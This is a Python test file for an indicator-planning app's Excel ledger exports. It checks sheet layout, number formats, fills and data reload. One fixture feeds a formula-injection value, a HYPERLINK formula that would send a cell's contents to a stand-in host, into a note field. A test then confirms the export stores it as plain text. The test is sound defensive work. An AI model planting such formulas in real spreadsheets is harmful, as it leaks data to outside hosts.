"""The Excel ledgers: the layout offices use, unit text never a formula, and the targets
ledger's data sheet loads back with `planwatch load-data` to the same stored values."""

from __future__ import annotations

from decimal import Decimal

import pytest

from planwatch.indicators.models import Observation
from planwatch.indicators.observations import enter_observation
from planwatch.reports.services import make_bytes
from tests.indicators.conftest import run

from .conftest import open_xlsx

pytestmark = pytest.mark.django_db


@pytest.fixture
def ledger(gdp_plan):
    enter_observation(actor=None, indicator=gdp_plan.small.own.indicator, period="2023", value=Decimal("37.25"),
                      source="区发展改革局", note='=HYPERLINK("http://x.example/?"&A1,"点")')  # fmt: skip
    data, name, _ = make_bytes(plan=gdp_plan.plan, kind="ledger-targets", period="2024Q2")
    assert name == "small-plan-2024Q2-目标台账.xlsx"
    return open_xlsx(data)


def test_layout_title_frozen_header_print_setup(ledger):
    assert ledger.sheetnames == ["指标数据", "目标台账"]
    for ws in ledger.worksheets:
        assert ws["A2"].value.startswith("填报单位：领导小组办公室")
        assert ws.freeze_panes == "A4"
        assert ws.print_title_rows == "$3:$3"
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9  # 9 = A4
        assert ws.print_area is not None
    data = ledger["指标数据"]
    assert [c.value for c in data[3]] == ["指标", "条目", "期间", "数值", "单位", "来源", "备注"]
    assert data.column_dimensions["A"].width == 36


def test_targets_sheet_number_formats_with_units_and_light_fills(ledger):
    ws = ledger["目标台账"]
    rows = {r[1].value: r for r in ws.iter_rows(min_row=4)}
    gdp = rows["地区生产总值"]
    assert gdp[5].value == 1000 and gdp[5].number_format == '#,##0.00"亿元"'
    assert gdp[8].value == "进展滞后" and gdp[8].fill.start_color.rgb == "00FFC7CE"  # red
    assert rows["指标2"][8].value == "数据不足" and rows["指标2"][8].fill.start_color.rgb == "00E7E6E6"  # grey


def test_unit_text_is_never_a_formula(ledger):
    notes = [r[6] for r in ledger["指标数据"].iter_rows(min_row=4)]
    typed = next(c for c in notes if c.value and "HYPERLINK" in c.value)
    assert typed.value == '\'=HYPERLINK("http://x.example/?"&A1,"点")' and typed.data_type == "s"


def test_data_sheet_loads_back_to_the_stored_values(gdp_plan, tmp_path):
    enter_observation(actor=None, indicator=gdp_plan.small.own.indicator, period="2024Q1", value=Decimal("37.25"),
                      source="区发展改革局")  # fmt: skip
    data, _, _ = make_bytes(plan=gdp_plan.plan, kind="ledger-targets", period="2024Q2")
    path = tmp_path / "台账.xlsx"
    path.write_bytes(data)
    Observation.objects.filter(indicator__plan=gdp_plan.plan).delete()
    run("load_data", path, plan="small-plan")
    stored = sorted(Observation.objects.filter(indicator__plan=gdp_plan.plan).values_list("indicator__name", "period", "value", "source"))
    assert stored == [
        ("地区生产总值", "2022", Decimal("1000"), "区统计局"),
        ("地区生产总值", "2023", Decimal("1000"), "区统计局"),
        ("指标1", "2024Q1", Decimal("37.25"), "区发展改革局"),
    ]


def test_submissions_ledger_of_one_unit(small_plan, reporter, reporter_unit):
    from planwatch.reporting.models import ReportingRule
    from planwatch.reporting.services.calendar import sync_rules
    from planwatch.reporting.services.submissions import save_submission
    from planwatch.reporting.services.validation import Figure

    small_plan.own.indicator.frequency = "quarter"
    small_plan.own.indicator.save()
    sync_rules(actor=None, plan=small_plan.plan)
    rule = ReportingRule.objects.get(indicator=small_plan.own.indicator)
    save_submission(actor=reporter.user, rule=rule, period="2024Q1", figure=Figure(Decimal("12.5")))
    data, name, _ = make_bytes(plan=small_plan.plan, kind="ledger-submissions", period="2024Q2", unit=reporter_unit)
    assert name == "small-plan-2024Q2-指标报送台账-区发展改革局.xlsx"
    ws = open_xlsx(data)["指标报送"]
    assert ws["A2"].value.startswith("填报单位：区发展改革局")
    row = [c.value for c in ws[4]]
    assert row[1:7] == ["区发展改革局", "指标1", "2024年第一季度", 12.5, None, "已报送"]  # no unit typed: an empty cell
    assert ws.cell(row=4, column=10).fill.start_color.rgb == "00FFEB9C"  # yellow: waiting for review
